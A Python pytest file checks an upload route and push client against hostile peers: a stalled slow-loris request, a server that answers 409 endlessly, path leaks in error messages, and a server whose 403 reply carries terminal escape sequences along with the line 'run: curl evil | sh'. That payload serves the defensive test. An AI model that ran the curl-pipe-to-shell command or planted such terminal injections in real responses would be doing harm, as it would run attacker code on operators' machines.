"""The kit upload route and `jamii kit push` against hostile peers (issue 14's push), in process:
the route's Starlette app called over ASGI with a SQLite central store, and the client against a
small server that answers what an attacker's or a broken server would.

- a PATCH whose body stops arriving (a phone link dropped half-open, or a slow-loris) must not
  hold the upload's lock for ever: what arrived is kept and the push goes on;
- the client, answered 409 at the same offset again and again, gives up with a clear message
  after some tries instead of asking for ever;
- free disk space is checked against what every unfinished upload may still write, not one;
- a refused bundle's message never names the server's files.
"""

from __future__ import annotations

import asyncio
import base64
import collections
import hashlib
import http.server
import json
import threading
import time

import pytest

from jamii.core.kit import push
from jamii.core.kit.kits import create_kit
from jamii.core.kit.push import PushError, push_bundle
from jamii.core.store import OPERATOR
from jamii.web import kit_upload as ku
from jamii.web import ui


@pytest.fixture
def central(sqlite_store, monkeypatch, tmp_path):
    """A central store with a campaign, its organiser's API token and a kit it made; the upload
    route's app, serving that store."""
    from starlette.applications import Starlette

    store = sqlite_store
    camp = store.create_campaign("kilimo", "Kilimo", languages=["sw"], actor_id=OPERATOR)
    organiser, _ = store.add_contributor(roles=["organiser"], actor_id=OPERATOR)
    create_kit(store, camp.id, tmp_path / "k.kit", actor_id=OPERATOR)
    kit_id = store.kits(camp.id)[0].id
    _, token = store.issue_api_token(camp.id, actor_id=organiser.id)
    monkeypatch.setattr(ui, "get_store", lambda: store)
    return {"store": store, "app": Starlette(routes=ku.kit_upload_routes("")), "kit": kit_id,
            "token": token, "folder": ku.uploads_folder(store)}


async def acall(app, method: str, path: str, *, token: str | None, headers=None,
                body: list[bytes] = (), stall: bool = False):
    """One request over ASGI: (status, headers, body). With `stall`, the body's last piece is
    followed by nothing at all (the connection neither sends more nor closes)."""
    parts = list(body)
    sent: list[dict] = []
    raw = {**(headers or {})}
    if token:
        raw["Authorization"] = f"Bearer {token}"

    async def receive():
        if parts:
            return {"type": "http.request", "body": parts.pop(0), "more_body": bool(parts) or stall}
        await asyncio.sleep(3600)  # a client still there, sending nothing (more)
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method,
             "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"",
             "root_path": "", "client": ("127.0.0.1", 4000), "server": ("127.0.0.1", 80),
             "headers": [(k.lower().encode(), v.encode()) for k, v in raw.items()]}
    await app(scope, receive, send)
    start = next(m for m in sent if m["type"] == "http.response.start")
    return (start["status"], {k.decode().lower(): v.decode() for k, v in start["headers"]},
            b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body"))


def run(coroutine):
    """The coroutine on a loop of its own thread: earlier tests in the same process (the
    browser tests' Playwright) can leave an event loop set as running in this one."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


def call(world, method: str, path: str, **kw):
    return run(acall(world["app"], method, path, token=kw.pop("token", world["token"]), **kw))


def create(world, data: bytes) -> str:
    meta = ",".join(f"{k} {base64.b64encode(v.encode()).decode()}" for k, v in
                    (("sha256", hashlib.sha256(data).hexdigest()), ("kit_id", world["kit"])))
    status, headers, body = call(world, "POST", "/kit/uploads", headers={
        "Upload-Length": str(len(data)), "Upload-Metadata": meta})
    assert status in (200, 201), body
    return headers["location"]


def patch_headers(offset: int) -> dict[str, str]:
    return {"Upload-Offset": str(offset), "Content-Type": "application/offset+octet-stream"}


def test_a_patch_whose_body_stops_arriving_does_not_hold_the_upload_for_ever(central, monkeypatch):
    monkeypatch.setattr(ku, "READ_TIMEOUT", 0.5, raising=False)
    data = bytes(range(256)) * 8
    location = create(central, data)

    async def scenario():
        app, token = central["app"], central["token"]
        stalled = asyncio.create_task(acall(app, "PATCH", location, token=token,
                                            headers=patch_headers(0), body=[data[:100]], stall=True))
        await asyncio.sleep(0.1)
        busy = await acall(app, "PATCH", location, token=token, headers=patch_headers(0),
                           body=[data])
        assert busy[0] == 409  # one writer at a time, meanwhile
        await asyncio.wait_for(stalled, 10)  # the silent request ends on its own
        status, headers, _ = await acall(app, "HEAD", location, token=token)
        assert status == 200 and headers["upload-offset"] == "100"  # what arrived is kept
        status, headers, _ = await acall(app, "PATCH", location, token=token,
                                         headers=patch_headers(100), body=[data[100:200]])
        assert status == 204 and headers["upload-offset"] == "200"

    run(scenario())


def test_free_space_counts_what_every_unfinished_upload_may_still_write(central, monkeypatch):
    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr(ku.shutil, "disk_usage",
                        lambda _path: usage(1 << 40, 0, ku.FREE_MARGIN + 150))
    create(central, b"a" * 100)  # 100 bytes still to come
    meta = ",".join(f"{k} {base64.b64encode(v.encode()).decode()}" for k, v in
                    (("sha256", hashlib.sha256(b"b" * 100).hexdigest()), ("kit_id", central["kit"])))
    status, _, body = call(central, "POST", "/kit/uploads", headers={
        "Upload-Length": "100", "Upload-Metadata": meta})
    assert status == 507 and b"no room" in body


def test_a_refused_bundle_says_why_without_naming_the_servers_files(central):
    data = b"not a sealed bundle at all " * 40
    location = create(central, data)
    assert call(central, "PATCH", location, headers=patch_headers(0), body=[data])[0] == 204
    deadline = time.monotonic() + 30
    while True:
        status, _, body = call(central, "GET", location)
        state = json.loads(body)
        if state["state"] != "merging" or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert status == 200 and state["state"] == "failed", state
    assert "not a sealed jamii bundle" in state["message"]
    for secret in (str(central["folder"]), ".part", str(central["store"].audio_dir.parent)):
        assert secret not in json.dumps(state), secret


def test_an_ended_merges_answer_is_sent_from_its_file_never_read_whole(central, monkeypatch):
    """The answer carries the news (100s of MB for a big campaign): every status request
    reading and parsing it would let a few pollers exhaust the server's memory."""
    data = b"not a sealed bundle at all " * 40
    location = create(central, data)
    assert call(central, "PATCH", location, headers=patch_headers(0), body=[data])[0] == 204
    deadline = time.monotonic() + 30
    while json.loads(call(central, "GET", location)[2])["state"] == "merging" \
            and time.monotonic() < deadline:
        time.sleep(0.1)
    read, plain = [], ku._read_json
    monkeypatch.setattr(ku, "_read_json",
                        lambda path: read.append((path.name, path.stat().st_size)) or plain(path))
    status, headers, body = call(central, "GET", location)
    assert status == 200 and headers["content-type"].startswith("application/json")
    state = json.loads(body)
    assert state["state"] == "failed" and "not a sealed jamii bundle" in state["message"]
    assert state["offset"] == state["length"] == len(data)
    sizes = dict(read)  # what the status read: the state, small; never the answer
    assert sizes[f"{location.rsplit('/', 1)[1]}.state.json"] < 100
    assert not any(name.endswith(".answer.json") for name in sizes)


class _Always409(http.server.BaseHTTPRequestHandler):
    """A server that takes an upload and then answers every chunk 409 at offset 0 (a writer it
    never lets go of, or a hostile server)."""

    def log_message(self, *_args) -> None:
        pass

    def _answer(self, status: int, headers: dict[str, str]) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(status)
        for k, v in {**headers, "Content-Length": "0"}.items():
            self.send_header(k, v)
        self.end_headers()

    def do_POST(self) -> None:
        self._answer(201, {"Location": "/kit/uploads/" + "a" * 32})

    def do_PATCH(self) -> None:
        self._answer(409, {"Upload-Offset": "0"})

    def do_HEAD(self) -> None:
        self._answer(200, {"Upload-Offset": "0", "Upload-Length": "1"})


def test_the_client_answered_409_for_ever_gives_up_with_a_clear_message(tmp_path, monkeypatch):
    from tests.test_kit_field_trip import field_store

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Always409)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    naps = []

    def sleep(seconds: float) -> None:
        naps.append(seconds)
        if len(naps) > 200:
            raise RuntimeError("the push never stops asking")
        time.sleep(0.02)

    field = field_store(tmp_path)
    try:
        field.field_kit = lambda: "b" * 32  # a field store's kit, for this test only
        bundle = tmp_path / "k.bundle"
        bundle.write_bytes(b"x" * 1000)
        monkeypatch.setattr(push, "MAX_BUSY", 0.5, raising=False)  # 300 s, past the server's READ_TIMEOUT
        with pytest.raises(PushError, match="another request is still writing.*Run the same"):
            push_bundle(field, bundle, f"http://127.0.0.1:{server.server_port}",
                        "t" * 43, sleep=sleep)
    finally:
        server.shutdown()
        field.close()


class _Refuses(http.server.BaseHTTPRequestHandler):
    """A hostile server whose refusal carries terminal escape sequences (clear the screen,
    retitle the window) for the operator's terminal."""

    def log_message(self, *_args) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b"\x1b[2J\x1b]0;pwned\x07token expired\r\nrun: curl evil | sh"
        self.send_response(403)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_a_servers_refusal_reaches_the_terminal_without_control_characters(tmp_path):
    from tests.test_kit_field_trip import field_store

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Refuses)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    field = field_store(tmp_path)
    try:
        field.field_kit = lambda: "b" * 32
        bundle = tmp_path / "k.bundle"
        bundle.write_bytes(b"x" * 1000)
        with pytest.raises(PushError) as refused:
            push_bundle(field, bundle, f"http://127.0.0.1:{server.server_port}", "t" * 43,
                        sleep=lambda _s: None)
        message = str(refused.value)
        assert "token expired" in message and "(403)" in message
        assert not any(not c.isprintable() for c in message), repr(message)
    finally:
        server.shutdown()
        field.close()
